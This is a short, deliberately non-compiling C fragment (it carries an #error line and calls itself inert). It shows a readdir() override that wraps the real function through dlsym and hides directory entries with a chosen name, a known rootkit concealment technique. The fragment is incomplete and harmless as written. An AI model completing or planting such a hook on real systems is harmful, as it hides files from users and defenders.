/* Inert: it does not compile. */
#error
struct dirent *readdir(DIR *dir) {
  original = dlsym(RTLD_NEXT, "readdir");
  while ((d = original(dir)) && strcmp(d->d_name, hidden_name) == 0);
  return d;
}
